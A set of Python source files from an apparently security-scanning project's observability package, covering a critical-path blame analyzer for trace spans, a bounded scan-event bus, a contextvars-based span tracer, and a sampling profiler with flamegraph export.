            if (s.get("attrs") or {}).get("job_id") == job_id
        }
        spans = [s for s in spans if s["trace_id"] in trace_ids]
    deliveries = sorted(
        (s for s in spans if s["name"] == "queue:deliver"),
        key=lambda s: s.get("wall_s") or 0.0,
    )
    window = deliveries[-1] if deliveries else None
    if window is None:
        jobs = sorted(
            (s for s in spans if s["name"] == "pipeline:job"),
            key=lambda s: s.get("wall_s") or 0.0,
        )
        window = jobs[-1] if jobs else None
    if window is None:
        return None

    children: dict[int, list[dict[str, Any]]] = {}
    by_id = {s["span_id"]: s for s in spans}
    for s in spans:
        parent = s.get("parent_id")
        if parent is not None:
            children.setdefault(parent, []).append(s)
    inside = _descendants(window["span_id"], children)

    segments = dict.fromkeys(SEGMENTS, 0.0)
    stages: dict[str, float] = {}
    lock_waits = 0

    def _bucket_db(span: Mapping[str, Any]) -> float:
        """Blame one db span; returns its full duration (for parent
        subtraction)."""
        nonlocal lock_waits
        dur = float(span.get("duration_s") or 0.0)
        attrs = span.get("attrs") or {}
        wait = float(attrs.get("lock_wait_s") or 0.0)
        lock_waits += int(attrs.get("lock_waits") or 0)
        segments["db_lock_wait"] += wait
        bucket = ("checkpoint_io" if span["name"] in _CHECKPOINT_OPS
                  else "db_other")
        segments[bucket] += max(dur - wait, 0.0)
        return dur

    direct_categorized = 0.0  # under the window but NOT under a stage span
    stage_span_total = 0.0
    for span in inside:
        if _is_stage_span(span):
            dur = float(span.get("duration_s") or 0.0)
            stage_span_total += dur
            nested = 0.0
            for sub in _descendants(span["span_id"], children):
                if sub["name"].startswith("db:"):
                    nested += _bucket_db(sub)
                elif _is_inner_notify(sub):
                    inner = float(sub.get("duration_s") or 0.0)
                    segments["notify"] += inner
                    nested += inner
            compute = max(dur - nested, 0.0)
            segments["stage_compute"] += compute
            stages[span["name"].split(":", 1)[1]] = round(dur, 6)
        elif span["name"].startswith("db:"):
            # Direct child of the window / pipeline:job (checkpoint
            # read/write between stages, journal transition events).
            if _under_stage(span, by_id):
                continue  # already blamed via its stage above
            direct_categorized += _bucket_db(span)
        elif _is_inner_notify(span) and not _under_stage(span, by_id):
            inner = float(span.get("duration_s") or 0.0)
            segments["notify"] += inner
            direct_categorized += inner

    window_dur = float(window.get("duration_s") or 0.0)
    segments["idle"] = max(window_dur - stage_span_total - direct_categorized, 0.0)

    enqueues = sorted(
        (s for s in spans if s["name"] == "queue:enqueue"),
        key=lambda s: s.get("wall_s") or 0.0,
    )
    if enqueues and window.get("wall_s"):
        segments["queue_wait"] = max(
            float(window["wall_s"]) - _end_wall(enqueues[0]), 0.0
        )

    attrs = window.get("attrs") or {}
    total = segments["queue_wait"] + window_dur
    return {
        "job_id": job_id or attrs.get("job_id"),
        "trace_id": window["trace_id"],
        "attempts": len(deliveries) or 1,
        "worker": attrs.get("worker"),
        "pids": sorted({s["pid"] for s in spans}),
        "span_count": len(spans),
        "enqueue_wall_s": round(float(enqueues[0]["wall_s"]), 6) if enqueues else None,
        "deliver_wall_s": round(float(window.get("wall_s") or 0.0), 6),
        "window_s": round(window_dur, 6),
        "total_s": round(total, 6),
        "lock_waits": lock_waits,
        "segments": {k: round(v, 6) for k, v in segments.items()},
        "stages": stages,
    }


def _under_stage(span: Mapping[str, Any],
                 by_id: Mapping[int, dict[str, Any]]) -> bool:
    """Whether some stage span is an ancestor of ``span`` (walk up via the
    span_id index; cheap — pipeline trees are a few levels deep)."""
    parent = span.get("parent_id")
    while parent is not None:
        node = by_id.get(parent)
        if node is None:
            return False
        if _is_stage_span(node):
            return True
        parent = node.get("parent_id")
    return False


def analyze_traces(spans: Iterable[Any]) -> list[dict[str, Any]]:
    """Blame every scan trace in a merged export: group by trace_id, keep
    traces that contain a delivery/pipeline window, order by submit time."""
    groups: dict[str, list[dict[str, Any]]] = {}
    for s in _as_dicts(spans):
        groups.setdefault(s["trace_id"], []).append(s)
    results = []
    for trace_spans in groups.values():
        res = analyze_scan(trace_spans)
        if res is not None:
            results.append(res)
    results.sort(key=lambda r: (r["enqueue_wall_s"] or r["deliver_wall_s"] or 0.0))
    return results


def aggregate_blame(results: Iterable[Mapping[str, Any]]) -> dict[str, Any]:
    """Fleet-level roll-up the load bench's ``contention`` block publishes:
    total + share per segment across N scans (shares of summed total_s, so
    long scans weigh proportionally), mean scan total, redelivery count."""
    results = list(results)
    totals = dict.fromkeys(SEGMENTS, 0.0)
    grand = 0.0
    redelivered = 0
    for r in results:
        for k in SEGMENTS:
            totals[k] += float(r["segments"].get(k, 0.0))
        grand += float(r["total_s"])
        if r.get("attempts", 1) > 1:
            redelivered += 1
    return {
        "scans": len(results),
        "mean_total_s": round(grand / len(results), 6) if results else 0.0,
        "redelivered": redelivered,
        "segments": {
            k: {
                "total_s": round(v, 6),
                "share": round(v / grand, 4) if grand > 0 else 0.0,
            }
            for k, v in totals.items()
        },
    }
