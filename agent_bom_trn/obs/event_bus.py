"""Scan-event bus — bounded in-process fan-out of journal events.

Every durable write to the ``scan_job_events`` journal
(api/job_store.py ``add_event``) publishes the SAME event dict here, so
SSE streams (api/server.py ``GET /v1/scans/{id}/events`` and the
``GET /v1/events`` firehose) can tail scans live instead of polling the
store. The journal stays the source of truth: the bus only carries what
was already persisted, which is what makes Last-Event-ID replay
byte-consistent with the live tail — both sides serialize the identical
journal row.

Design mirrors obs/dispatch_ledger.py's ring discipline:

- **Bounded memory.** A process-global recent-events ring
  (``AGENT_BOM_EVENT_BUS_RING``, default 1024) backs firehose catch-up;
  each subscriber owns a bounded deque of the same capacity. A slow
  consumer drops oldest-first and the drop is counted
  (``dropped`` counter) — never unbounded memory, never a blocked
  publisher. SSE streams recover from drops by re-reading the journal.
- **Cheap.** One lock, one deque append per subscriber per event; scans
  emit tens of events, not thousands.
- **Hermetic.** ``_snapshot_state``/``_restore_state`` are registered in
  tests/conftest.py alongside the other obs rings.

Events are plain dicts shaped by the journal row::

    {"job_id": ..., "tenant_id": ..., "seq": ..., "ts": ...,
     "step": ..., "state": ..., "detail": ..., "progress": ...,
     "metrics": {...}}

Subscriptions filter at publish time (``job_id`` and/or ``tenant_id``)
so a per-scan SSE stream never buffers the whole firehose.
"""

from __future__ import annotations

import threading
from collections import deque
from typing import Any

from agent_bom_trn import config


class Subscription:
    """One subscriber's bounded mailbox with its own wakeup condition."""

    def __init__(self, job_id: str | None, tenant_id: str | None, capacity: int):
        self.job_id = job_id
        self.tenant_id = tenant_id
        self._cond = threading.Condition()
        self._queue: deque[dict[str, Any]] = deque(maxlen=max(capacity, 1))
        self.dropped = 0
        self.closed = False

    def _matches(self, event: dict[str, Any]) -> bool:
        if self.job_id is not None and event.get("job_id") != self.job_id:
            return False
        if self.tenant_id is not None and event.get("tenant_id") != self.tenant_id:
            return False
        return True

    def _offer(self, event: dict[str, Any]) -> bool:
        """Deliver (publisher side). Returns False when the mailbox evicted."""
        with self._cond:
            evicted = (
                self._queue.maxlen is not None and len(self._queue) == self._queue.maxlen
            )
            if evicted:
                self.dropped += 1
            self._queue.append(event)
            self._cond.notify()
        return not evicted

    def get(self, timeout: float | None = None) -> dict[str, Any] | None:
        """Pop the oldest pending event, blocking up to ``timeout`` seconds.
        Returns None on timeout or after :meth:`close`."""
        with self._cond:
            if not self._queue and not self.closed:
                self._cond.wait(timeout)
            if self._queue:
                return self._queue.popleft()
            return None

    def drain(self) -> list[dict[str, Any]]:
        """Pop every pending event without blocking."""
        with self._cond:
            out = list(self._queue)
            self._queue.clear()
            return out

    def close(self) -> None:
        with self._cond:
            self.closed = True
            self._cond.notify_all()


_lock = threading.Lock()
_ring: deque[dict[str, Any]] = deque(maxlen=max(config.EVENT_BUS_RING, 1))
_subs: list[Subscription] = []
_published: int = 0  # lifetime publish count
_delivered: int = 0  # per-subscriber deliveries
_dropped: int = 0  # subscriber-mailbox evictions (slow consumers)
_evicted: int = 0  # recent-events ring evictions


def publish(event: dict[str, Any]) -> None:
    """Fan one journal event out to the recent ring and every matching
    subscriber. Never blocks and never raises on a slow consumer."""
    global _published, _delivered, _dropped, _evicted
    with _lock:
        _published += 1
        if _ring.maxlen is not None and len(_ring) == _ring.maxlen:
            _evicted += 1
        _ring.append(event)
        targets = [s for s in _subs if not s.closed and s._matches(event)]
    delivered = dropped = 0
    for sub in targets:
        if sub._offer(event):
            delivered += 1
        else:
            dropped += 1
    if delivered or dropped:
        with _lock:
            _delivered += delivered
            _dropped += dropped


def subscribe(
    job_id: str | None = None, tenant_id: str | None = None
) -> Subscription:
    """Register a bounded mailbox; pair with :func:`unsubscribe`."""
    sub = Subscription(job_id, tenant_id, capacity=max(config.EVENT_BUS_RING, 1))
    with _lock:
        _subs.append(sub)
    return sub


def unsubscribe(sub: Subscription) -> None:
    sub.close()
    with _lock:
        try:
            _subs.remove(sub)
        except ValueError:
            pass


def recent(
    job_id: str | None = None, tenant_id: str | None = None
) -> list[dict[str, Any]]:
    """Snapshot of the recent-events ring, oldest first, optionally
    filtered — the firehose's catch-up source."""
    with _lock:
        snap = list(_ring)
    out = []
    for event in snap:
        if job_id is not None and event.get("job_id") != job_id:
            continue
        if tenant_id is not None and event.get("tenant_id") != tenant_id:
            continue
        out.append(event)
    return out


def counters() -> dict[str, int]:
    with _lock:
        return {
            "published": _published,
            "delivered": _delivered,
            "dropped": _dropped,
            "ring_evicted": _evicted,
            "ring_size": len(_ring),
            "subscribers": len(_subs),
        }


def reset() -> None:
    """Clear the ring, counters, and close every live subscription."""
    global _published, _delivered, _dropped, _evicted
    with _lock:
        subs = list(_subs)
        _subs.clear()
        _ring.clear()
        _published = 0
        _delivered = 0
        _dropped = 0
        _evicted = 0
    for sub in subs:
        sub.close()


def _snapshot_state() -> tuple:
    """Conftest hook: capture (ring, maxlen, counters, subscriptions)."""
    with _lock:
        return (
            list(_ring),
            _ring.maxlen,
            _published,
            _delivered,
            _dropped,
            _evicted,
            list(_subs),
        )


def _restore_state(state: tuple) -> None:
    """Conftest hook: restore a :func:`_snapshot_state` capture."""
    global _ring, _published, _delivered, _dropped, _evicted
    ring, maxlen, published, delivered, dropped, evicted, subs = state
    with _lock:
        leaked = [s for s in _subs if s not in subs]
        _ring = deque(ring, maxlen=maxlen)
        _published = published
        _delivered = delivered
        _dropped = dropped
        _evicted = evicted
        _subs[:] = subs
    for sub in leaked:
        sub.close()
