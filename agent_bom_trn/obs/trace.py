"""Hierarchical span tracer — contextvars parenting, bounded ring buffer.

Design constraints, in priority order:

1. **Disabled cost ≈ zero.** Tracing is off by default; every hot path
   (per-batch reach sweeps, per-file SAST, per-dispatch kernels) calls
   ``span(...)`` unconditionally, so the disabled path must be one
   module-bool check returning a shared no-op context manager — no
   allocation, no clock read, no lock. The microbench in
   tests/test_obs.py holds this under 2% of the reach stage.
2. **Correct parentage across threads and generators.** The current
   span lives in a ``contextvars.ContextVar``: nested ``with span()``
   blocks chain parent ids, worker threads (API handler threads,
   gateway forwards) start fresh contexts and therefore root their own
   traces instead of corrupting another thread's chain.
3. **Bounded memory.** Completed spans land in one process-global ring
   (``AGENT_BOM_TRACE_RING``, default 4096); the oldest spans fall off.
   In-flight spans are owned by their context manager, so an abandoned
   generator cannot leak into the ring.

A *trace* is the tree under one root span (a span opened with no parent
in its context); trace ids mint per root. Error status is captured from
the exception leaving the ``with`` block — the exception propagates,
the span records ``status="error"`` plus the exception repr.
"""

from __future__ import annotations

import contextvars
import itertools
import os
import threading
import time
from collections import deque
from dataclasses import dataclass, field
from typing import Any, Iterator

from agent_bom_trn import config

_lock = threading.Lock()
_enabled: bool = config.OBS_TRACE_ENABLED
_ring: deque["Span"] = deque(maxlen=max(config.OBS_TRACE_RING, 1))
_span_ids = itertools.count(1)
_trace_ids = itertools.count(1)
_current: contextvars.ContextVar["Span | None"] = contextvars.ContextVar(
    "agent_bom_current_span", default=None
)
# Remote parent adopted from an inbound traceparent (obs.propagation
# activate()): a (trace_id, span_id) pair a would-be root span parents
# under instead of minting a fresh trace. Lives here, not in
# propagation.py, so the hot __enter__ path needs no cross-module import.
_remote: contextvars.ContextVar["tuple[str, int] | None"] = contextvars.ContextVar(
    "agent_bom_remote_trace_ctx", default=None
)
_record_dispatch = None  # lazy-bound telemetry.record_dispatch (import cycle)
# Per-thread active span-name chains (root → leaf), keyed by thread id.
# A ContextVar is only readable from its own thread, but the sampling
# profiler (obs/profiler.py) walks ALL thread stacks from its sampler
# thread and must know which span each thread is inside — so the span
# context manager mirrors the name chain into this plain dict on
# enter/exit. Reads/writes are single dict ops (GIL-atomic); cost is two
# dict assignments per ENABLED span, nothing on the disabled path.
_tid_chains: dict[int, tuple[str, ...]] = {}

# Trace and span ids embed the pid so ids minted by different replicas /
# queue workers never collide in a merged JSONL export — parent links
# across process boundaries stay unambiguous. The pid is read lazily so
# forked children (not just fresh interpreters) mint in their own space.
_SPAN_ID_PID_SHIFT = 40


def _mint_trace_id() -> str:
    return f"t{os.getpid():x}-{next(_trace_ids):06x}"


def _mint_span_id() -> int:
    return ((os.getpid() & 0xFFFFF) << _SPAN_ID_PID_SHIFT) | next(_span_ids)


@dataclass
class Span:
    """One completed (or in-flight) timed region."""

    name: str
    trace_id: str
    span_id: int
    parent_id: int | None
    start_s: float  # perf_counter domain — shared monotonic base per process
    tid: int
    status: str = "ok"
    error: str | None = None
    end_s: float = 0.0
    # Wall-clock anchor (time.time at enter): start_s/end_s are
    # per-process perf_counter and NOT comparable across pids, so this is
    # the only way a merged JSONL export can order the API replica's
    # queue:enqueue against the worker's queue:deliver (claim-wait blame
    # in obs/critical_path.py) or window spans against queue-row
    # timestamps (per-rung bench attribution).
    wall_s: float = 0.0
    attrs: dict[str, Any] = field(default_factory=dict)
    pid: int = field(default_factory=os.getpid)

    @property
    def duration_s(self) -> float:
        return max(self.end_s - self.start_s, 0.0)

    def set(self, key: str, value: Any) -> "Span":
        """Attach one attribute; chainable, no-op-safe via the null twin."""
        self.attrs[key] = value
        return self

    def to_dict(self) -> dict[str, Any]:
        d = {
            "name": self.name,
            "trace_id": self.trace_id,
            "span_id": self.span_id,
            "parent_id": self.parent_id,
            "start_s": round(self.start_s, 6),
            "wall_s": round(self.wall_s, 6),
            "duration_s": round(self.duration_s, 6),
            "status": self.status,
            "tid": self.tid,
            "pid": self.pid,
        }
        if self.error:
            d["error"] = self.error
        if self.attrs:
            d["attrs"] = dict(self.attrs)
        return d


class _NullSpan:
    """No-op twin returned from disabled ``span()`` enters — accepts the
    same ``set`` calls so instrumentation sites never branch."""

    __slots__ = ()

    def set(self, key: str, value: Any) -> "_NullSpan":
        return self


class _NullSpanCtx:
    __slots__ = ()

    def __enter__(self) -> _NullSpan:
        return _NULL_SPAN

    def __exit__(self, exc_type, exc, tb) -> bool:
        return False


_NULL_SPAN = _NullSpan()
_NULL_CTX = _NullSpanCtx()


class _SpanCtx:
    __slots__ = ("_name", "_attrs", "_span", "_token", "_prev_chain")

    def __init__(self, name: str, attrs: dict[str, Any] | None) -> None:
        self._name = name
        self._attrs = attrs
        self._span: Span | None = None
        self._token: contextvars.Token | None = None
        self._prev_chain: tuple[str, ...] | None = None

    def __enter__(self) -> Span:
        parent = _current.get()
        if parent is None:
            remote = _remote.get()
            if remote is not None:
                # Adopted cross-process parent: same trace, remote span id.
                trace_id, parent_id = remote
            else:
                trace_id = _mint_trace_id()
                parent_id = None
        else:
            trace_id = parent.trace_id
            parent_id = parent.span_id
        span_obj = Span(
            name=self._name,
            trace_id=trace_id,
            span_id=_mint_span_id(),
            parent_id=parent_id,
            start_s=time.perf_counter(),
            wall_s=time.time(),
            tid=threading.get_ident(),
            attrs=dict(self._attrs) if self._attrs else {},
        )
        self._span = span_obj
        self._token = _current.set(span_obj)
        prev = _tid_chains.get(span_obj.tid)
        self._prev_chain = prev
        _tid_chains[span_obj.tid] = (*prev, self._name) if prev else (self._name,)
        return span_obj

    def __exit__(self, exc_type, exc, tb) -> bool:
        span_obj = self._span
        span_obj.end_s = time.perf_counter()
        if exc_type is not None:
            span_obj.status = "error"
            span_obj.error = f"{exc_type.__name__}: {exc}"
        _current.reset(self._token)
        if self._prev_chain is None:
            _tid_chains.pop(span_obj.tid, None)
        else:
            _tid_chains[span_obj.tid] = self._prev_chain
        with _lock:
            dropped = _ring.maxlen is not None and len(_ring) == _ring.maxlen
            _ring.append(span_obj)
        if dropped:
            # The bounded ring evicted its oldest span to admit this one.
            # Load runs overflow 4096 easily; counting the loss lets the
            # JSONL merge say "N spans missing" instead of silently lying.
            global _record_dispatch
            if _record_dispatch is None:
                from agent_bom_trn.engine.telemetry import record_dispatch  # noqa: PLC0415

                _record_dispatch = record_dispatch
            _record_dispatch("trace", "ring_dropped")
        return False


def span(name: str, attrs: dict[str, Any] | None = None):
    """Open a timed span: ``with span("reach:bfs", attrs={...}) as sp:``.

    Disabled (the default): returns the shared no-op context manager —
    one bool check, nothing allocated. Enabled: yields a :class:`Span`
    parented under the context's current span.
    """
    if not _enabled:
        return _NULL_CTX
    return _SpanCtx(name, attrs)


def enable(ring_size: int | None = None) -> None:
    """Turn tracing on (optionally resizing the completed-span ring)."""
    global _enabled, _ring
    with _lock:
        if ring_size is not None and ring_size != _ring.maxlen:
            _ring = deque(_ring, maxlen=max(int(ring_size), 1))
        _enabled = True


def disable() -> None:
    global _enabled
    _enabled = False


def is_enabled() -> bool:
    return _enabled


def current_span() -> Span | None:
    """The context's in-flight span (None at top level or when disabled)."""
    return _current.get()


def active_chains() -> dict[int, tuple[str, ...]]:
    """{thread id: span-name chain root → leaf} for every thread currently
    inside at least one enabled span. Cross-thread read — the sampling
    profiler calls this each tick to attribute stack samples to spans."""
    return dict(_tid_chains)


def span_chain(tid: int | None = None) -> tuple[str, ...]:
    """The active span-name chain for one thread (default: the caller's)."""
    if tid is None:
        tid = threading.get_ident()
    return _tid_chains.get(tid, ())


def completed_spans() -> list[Span]:
    """Snapshot of the completed-span ring, oldest first."""
    with _lock:
        return list(_ring)


def reset_spans() -> None:
    with _lock:
        _ring.clear()


def latest_trace() -> list[Span]:
    """All ring spans belonging to the most recently completed span's
    trace, in start order — the ``/v1/traces/latest`` payload."""
    with _lock:
        if not _ring:
            return []
        trace_id = _ring[-1].trace_id
        spans = [s for s in _ring if s.trace_id == trace_id]
    spans.sort(key=lambda s: (s.start_s, s.span_id))
    return spans


def iter_traces() -> Iterator[tuple[str, list[Span]]]:
    """Group the ring by trace id, in first-seen order (exporter helper)."""
    groups: dict[str, list[Span]] = {}
    for s in completed_spans():
        groups.setdefault(s.trace_id, []).append(s)
    yield from groups.items()


def pid() -> int:
    return os.getpid()


def _snapshot_state() -> tuple:
    """Conftest hook: capture (enabled, ring contents, ring size, chains)."""
    with _lock:
        return (_enabled, list(_ring), _ring.maxlen, dict(_tid_chains))


def _restore_state(state: tuple) -> None:
    """Conftest hook: restore a :func:`_snapshot_state` capture."""
    global _enabled, _ring
    enabled, spans, maxlen, chains = state
    with _lock:
        _ring = deque(spans, maxlen=maxlen)
        _enabled = enabled
        _tid_chains.clear()
        _tid_chains.update(chains)


# Cross-process capture: AGENT_BOM_TRACE_EXPORT=<base path> turns tracing
# on and dumps this process's completed-span ring to <base>.<pid>.jsonl at
# interpreter exit. This is how API replicas / queue workers spawned as
# subprocesses hand their half of a distributed trace back to the parent
# (load bench, merged-JSONL stitching tests) without any collector wire.
if config.OBS_TRACE_EXPORT:
    _enabled = True

    def _export_ring_at_exit() -> None:
        from agent_bom_trn.obs.export import write_jsonl  # noqa: PLC0415

        try:
            write_jsonl(f"{config.OBS_TRACE_EXPORT}.{os.getpid()}.jsonl")
        except OSError:  # pragma: no cover - export is best-effort
            pass

    import atexit

    atexit.register(_export_ring_at_exit)
