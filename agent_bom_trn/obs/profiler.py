"""In-process statistical sampling profiler with span attribution.

The PR 4 tracer answers *how long* a span took; this module answers
*where the time went inside it*. A single daemon sampler thread wakes at
``AGENT_BOM_PROFILE_HZ`` (default 99 — the classic off-by-one from 100
so the sampler never phase-locks with 10 ms-periodic work), walks every
thread's stack via ``sys._current_frames()``, and attributes each
(thread, stack) observation to that thread's active span-name chain
(``obs.trace.active_chains()`` — the contextvars parentage mirrored into
a tid-keyed dict exactly so a foreign thread can read it).

Design constraints, in priority order:

1. **Disabled cost = zero.** Off by default; when off there is no
   sampler thread, no per-call hook, and the tracer's only addition is
   two dict assignments per *enabled* span (nothing on the disabled
   span path). The microbench in tests/test_resource_obs.py holds the
   always-on additions under the same <2%-of-reach bar as the tracer.
2. **Aggregate in the sampler, export on demand.** Samples fold into a
   ``{(span_chain, stack): count}`` dict as they are taken — memory is
   bounded by unique stacks, not run length, and stop() hands back a
   finished :class:`Profile` with no post-processing thread.
3. **One capture at a time.** ``capture()`` (the ``GET /v1/profile``
   body) takes a non-blocking module lock and raises
   :class:`CaptureBusy` when a capture or an ambient ``start()``/
   ``stop()`` session is already running — breaker-style rejection, the
   caller gets a 409, never a queue.

Exports: ``folded_stacks()`` (Brendan Gregg collapsed format —
``flamegraph.pl`` / speedscope both ingest it) and
``speedscope_document()`` (speedscope's "sampled" JSON schema), written
side by side by :func:`write_profile` next to the PR 4 Chrome trace.
"""

from __future__ import annotations

import json
import sys
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from agent_bom_trn import config
from agent_bom_trn.obs import trace as _trace

_lock = threading.Lock()
_sampler: "_Sampler | None" = None
# Non-blocking gate shared by every profiling entry point: whoever holds
# it owns THE profiler session for this process.
_session_lock = threading.Lock()

UNTRACED = "(untraced)"


class CaptureBusy(RuntimeError):
    """A capture (or an ambient start()/stop() session) is already running."""


# One raw stack frame: (function name, filename, line number).
_FrameKey = tuple[str, str, int]


@dataclass
class Profile:
    """One finished sampling session, pre-aggregated by (chain, stack)."""

    hz: float
    duration_s: float
    ticks: int  # sampler wakeups (each observes every live thread)
    samples: int  # (thread, stack) observations folded into counts
    # {(span-name chain root→leaf, stack root→leaf): observation count}
    counts: dict[tuple[tuple[str, ...], tuple[_FrameKey, ...]], int]
    threads_seen: int = 0

    @property
    def period_s(self) -> float:
        return 1.0 / self.hz if self.hz > 0 else 0.0

    def span_samples(self) -> dict[str, int]:
        """Observation counts keyed by the innermost active span name
        (leaf of the chain); untraced threads land under ``(untraced)``."""
        out: dict[str, int] = {}
        for (chain, _stack), n in self.counts.items():
            key = chain[-1] if chain else UNTRACED
            out[key] = out.get(key, 0) + n
        return dict(sorted(out.items()))

    def stage_samples(self) -> dict[str, int]:
        """Observation counts keyed by *stage*: the span one level below
        the root of the chain (the root is the run wrapper —
        ``bench:pipeline``, ``cli:scan`` — and its direct children are
        the pipeline stages). A chain with only a root attributes to the
        root; untraced threads are excluded (idle pool threads must not
        dilute stage shares)."""
        out: dict[str, int] = {}
        for (chain, _stack), n in self.counts.items():
            if not chain:
                continue
            key = chain[1] if len(chain) >= 2 else chain[0]
            out[key] = out.get(key, 0) + n
        return dict(sorted(out.items()))

    def stage_shares(self) -> dict[str, float]:
        """``stage_samples`` normalized to fractions of traced samples."""
        samples = self.stage_samples()
        total = sum(samples.values())
        if not total:
            return {}
        return {k: round(n / total, 4) for k, n in samples.items()}

    def summary(self) -> dict[str, Any]:
        return {
            "hz": self.hz,
            "duration_s": round(self.duration_s, 3),
            "ticks": self.ticks,
            "samples": self.samples,
            "threads_seen": self.threads_seen,
            "unique_stacks": len(self.counts),
            "stage_samples": self.stage_samples(),
            "stage_shares": self.stage_shares(),
        }


class _Sampler(threading.Thread):
    def __init__(self, hz: float, max_stack: int) -> None:
        super().__init__(name="agent-bom-profiler", daemon=True)
        self.hz = float(hz)
        self.period = 1.0 / self.hz
        self.max_stack = max_stack
        self.stop_event = threading.Event()
        self.counts: dict[tuple[tuple[str, ...], tuple[_FrameKey, ...]], int] = {}
        self.ticks = 0
        self.samples = 0
        self.tids: set[int] = set()
        self.t0 = time.perf_counter()
        self.t1 = self.t0

    def run(self) -> None:
        own = threading.get_ident()
        next_t = time.perf_counter()
        while True:
            next_t += self.period
            delay = next_t - time.perf_counter()
            if delay > 0:
                if self.stop_event.wait(delay):
                    break
            else:
                # Fell behind (GIL contention, swapped out): re-anchor
                # instead of burst-sampling to catch up — burst samples
                # would over-weight whatever ran during the stall.
                next_t = time.perf_counter()
                if self.stop_event.is_set():
                    break
            self._sample(own)
        self.t1 = time.perf_counter()

    def _sample(self, own_tid: int) -> None:
        frames = sys._current_frames()
        chains = _trace.active_chains()
        self.ticks += 1
        for tid, frame in frames.items():
            if tid == own_tid:
                continue
            stack: list[_FrameKey] = []
            f = frame
            while f is not None:
                code = f.f_code
                # f_lineno is None while the interpreter is between line
                # events (PEP 626); 0 keeps the frame key orderable.
                stack.append((code.co_name, code.co_filename, f.f_lineno or 0))
                f = f.f_back
            stack.reverse()  # root → leaf
            if len(stack) > self.max_stack:
                # Keep the leaf-most frames (that's where samples land);
                # fold the excess base into one marker frame.
                stack = [("[truncated]", "", 0), *stack[-self.max_stack:]]
            key = (chains.get(tid, ()), tuple(stack))
            self.counts[key] = self.counts.get(key, 0) + 1
            self.samples += 1
            self.tids.add(tid)

    def finish(self) -> Profile:
        self.stop_event.set()
        self.join(timeout=5.0)
        return Profile(
            hz=self.hz,
            duration_s=max(self.t1 - self.t0, 0.0),
            ticks=self.ticks,
            samples=self.samples,
            counts=dict(self.counts),
            threads_seen=len(self.tids),
        )


def start(hz: float | None = None) -> bool:
    """Start the ambient sampler; False (no-op) if one is already running
    or another capture holds the session. Callers that need span
    attribution should also ``trace.enable()`` — samples taken outside
    any enabled span fold into the ``(untraced)`` bucket."""
    global _sampler
    if not _session_lock.acquire(blocking=False):
        return False
    with _lock:
        if _sampler is not None:
            _session_lock.release()
            return False
        sampler = _Sampler(
            hz=hz or config.OBS_PROFILE_HZ,
            max_stack=max(config.OBS_PROFILE_MAX_STACK, 4),
        )
        _sampler = sampler
    sampler.start()
    return True


def stop() -> Profile | None:
    """Stop the ambient sampler and return its Profile (None if idle)."""
    global _sampler
    with _lock:
        sampler = _sampler
        _sampler = None
    if sampler is None:
        return None
    try:
        return sampler.finish()
    finally:
        _session_lock.release()


def is_running() -> bool:
    return _sampler is not None


def capture(seconds: float, hz: float | None = None) -> Profile:
    """Blocking on-demand capture (the ``GET /v1/profile`` body): sample
    for ``seconds`` (capped at AGENT_BOM_PROFILE_MAX_SECONDS) and return
    the Profile. Raises :class:`CaptureBusy` when any profiler session
    is already active — one capture at a time, breaker-style."""
    seconds = min(max(float(seconds), 0.05), config.OBS_PROFILE_MAX_SECONDS)
    if not _session_lock.acquire(blocking=False):
        raise CaptureBusy("a profile capture is already in progress")
    try:
        global _sampler
        with _lock:
            if _sampler is not None:  # pragma: no cover — start() holds the session lock
                raise CaptureBusy("ambient profiler session is running")
            sampler = _Sampler(
                hz=hz or config.OBS_PROFILE_HZ,
                max_stack=max(config.OBS_PROFILE_MAX_STACK, 4),
            )
            _sampler = sampler
        sampler.start()
        try:
            time.sleep(seconds)
        finally:
            with _lock:
                _sampler = None
        return sampler.finish()
    finally:
        _session_lock.release()


# ── exports ─────────────────────────────────────────────────────────────


def _short_path(filename: str) -> str:
    """Trailing two path components — enough to disambiguate module files
    without dragging absolute prefixes into every frame name."""
    if not filename:
        return ""
    parts = filename.replace("\\", "/").rsplit("/", 2)
    return "/".join(parts[-2:])


def _frame_label(frame: _FrameKey) -> str:
    name, filename, line = frame
    if not filename:
        return name
    return f"{name} ({_short_path(filename)}:{line})"


def folded_stacks(profile: Profile) -> str:
    """Collapsed-stack text: ``span;chain;frame;frame count`` per line,
    span chain first so per-stage flamegraphs fall out of a prefix
    filter. Frames use ``name (dir/file.py:line)`` labels; semicolons in
    names are replaced to keep the format parseable."""
    agg: dict[str, int] = {}
    for (chain, stack), n in profile.counts.items():
        parts = [*(chain or (UNTRACED,)), *(_frame_label(f) for f in stack)]
        key = ";".join(p.replace(";", ",") for p in parts)
        agg[key] = agg.get(key, 0) + n
    return "\n".join(f"{key} {n}" for key, n in sorted(agg.items()))


def speedscope_document(profile: Profile, name: str = "agent-bom profile") -> dict[str, Any]:
    """Speedscope "sampled" profile JSON (https://www.speedscope.app).

    Span-chain entries become synthetic ``[span] <name>`` root frames so
    the flamegraph groups by stage before code; weights are in seconds
    (observations × sampling period)."""
    frames: list[dict[str, Any]] = []
    frame_index: dict[_FrameKey, int] = {}
    samples: list[list[int]] = []
    weights: list[float] = []

    def idx(key: _FrameKey) -> int:
        i = frame_index.get(key)
        if i is None:
            i = frame_index[key] = len(frames)
            fname, filename, line = key
            entry: dict[str, Any] = {"name": fname}
            if filename:
                entry["file"] = filename
                entry["line"] = line
            frames.append(entry)
        return i

    for (chain, stack), n in sorted(profile.counts.items()):
        stack_idx = [idx((f"[span] {part}", "", 0)) for part in chain]
        stack_idx.extend(idx((_frame_label(f), f[1], f[2])) for f in stack)
        samples.append(stack_idx)
        weights.append(round(n * profile.period_s, 6))

    return {
        "$schema": "https://www.speedscope.app/file-format-schema.json",
        "shared": {"frames": frames},
        "profiles": [
            {
                "type": "sampled",
                "name": name,
                "unit": "seconds",
                "startValue": 0,
                "endValue": round(profile.duration_s, 6),
                "samples": samples,
                "weights": weights,
            }
        ],
        "name": name,
        "activeProfileIndex": 0,
        "exporter": "agent-bom-trn",
    }


def write_profile(path: str | Path, profile: Profile, name: str | None = None) -> dict[str, Any]:
    """Write the speedscope JSON to ``path`` and the folded-stack text to
    ``path + '.folded'``; returns the profile summary dict (bench JSON /
    stderr reporting)."""
    path = Path(path)
    doc = speedscope_document(profile, name=name or path.stem)
    path.write_text(json.dumps(doc), encoding="utf-8")
    folded_path = Path(str(path) + ".folded")
    folded_path.write_text(folded_stacks(profile) + "\n", encoding="utf-8")
    out = profile.summary()
    out["path"] = str(path)
    out["folded_path"] = str(folded_path)
    return out


def _snapshot_state() -> bool:
